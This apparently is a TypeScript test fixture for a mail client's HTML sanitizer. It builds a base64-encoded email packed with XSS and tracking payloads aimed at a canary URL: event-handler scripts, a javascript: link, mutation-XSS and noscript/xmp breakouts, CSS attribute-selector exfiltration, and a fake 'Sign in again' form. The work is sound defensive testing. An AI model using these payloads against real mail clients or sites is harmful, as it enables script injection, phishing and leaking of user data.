/** A mail that tries everything: to run, to fetch, to send a form, to go elsewhere, to read what is around it. */

/** @param url of the canary: each trick names a path of its own there */
export function hostileHtml(url: string): string {
  return [
    '<html><head><title>x</title>',
    `<base href="${url}/base/"><meta http-equiv="refresh" content="0;url=${url}/refresh">`,
    `<link rel="stylesheet" href="${url}/link.css"><link rel="prefetch" href="${url}/prefetch"><link rel="icon" href="${url}/icon">`,
    `<script>top.hacked=1;fetch('${url}/script')</script><script src="${url}/script.js"></script>`,
    '<style>.shown{color:rgb(1, 2, 3)} @media all{.media{color:rgb(7, 8, 9)}}</style>',
    `<style>@import url(${url}/import.css);@font-face{font-family:f;src:url(${url}/font)}`,
    `.shown{background:url(${url}/body.png)} .x{background-image:image-set(url(${url}/set.png) 1x);font-family:f}`,
    `input[value^="a"]{background:\\75 rl(${url}/exfiltrated)} p{list-style:url(${url}/media)} p{content:"</style><script>top.hacked=2</script>"}`,
    `.z{--x:url(${url}/variable)} .y{background:var(--x)}</style></head>`,
    `<body background="${url}/background" onload="top.hacked=3">`,
    '<p class="shown">Hello from the hostile mail</p><p class="x y" style="color:rgb(4, 5, 6)">please-hold</p>',
    `<p style="background:url(${url}/style.png)">styled</p>`,
    `<img src="${url}/image.png" srcset="${url}/srcset.png 2x" alt="the logo" onerror="top.hacked=4"><img src=x onerror=top.hacked=5>`,
    `<img src="/api/session"><img src="//${url.slice(7)}/schemeless">`,
    `<svg><image href="${url}/svg.png"/><script>top.hacked=6</script><use href="${url}/use.svg#x"/><animate onbegin="top.hacked=7" attributeName="x"/></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.hacked=8&gt;"></mglyph></table></mtext></math>`,
    `<iframe src="${url}/iframe"></iframe><iframe srcdoc="<script>top.hacked=9</script>"></iframe>`,
    `<object data="${url}/object"></object><embed src="${url}/embed"><video src="${url}/video" poster="${url}/poster" autoplay></video>`,
    `<audio src="${url}/audio" autoplay></audio><picture><source srcset="${url}/source"><img alt="x"></picture>`,
    `<form action="${url}/form" id="f"><input name="q" value="abc" autofocus onfocus="top.hacked=10"><button>Sign in again</button></form>`,
    `<a href="javascript:top.hacked=11" ping="${url}/ping">press</a> <a href="${url}/anchor" target="_top">go</a>`,
    `<details open ontoggle="top.hacked=12"><summary>s</summary></details><template><img src="${url}/template"></template>`,
    `<noscript><p title="</noscript><img src=x onerror=top.hacked=13>"></noscript><xmp><p title="</xmp><img src=${url}/xmp>"></xmp>`,
    '</body></html>',
  ].join('\r\n');
}

/** A mail of one HTML part. */
export function htmlMail(html: string, from: string): string {
  const base64 = Buffer.from(html).toString('base64');
  return [
    `From: A Stranger <${from}>`,
    'To: <partner@museum.example>',
    'Subject: Please look',
    'Date: Mon, 09 Nov 2026 08:15:00 -0600',
    'Message-ID: <look@school.example>',
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    'Content-Transfer-Encoding: base64',
    '',
    ...(base64.match(/.{1,76}/g) ?? []),
    '',
  ].join('\r\n');
}
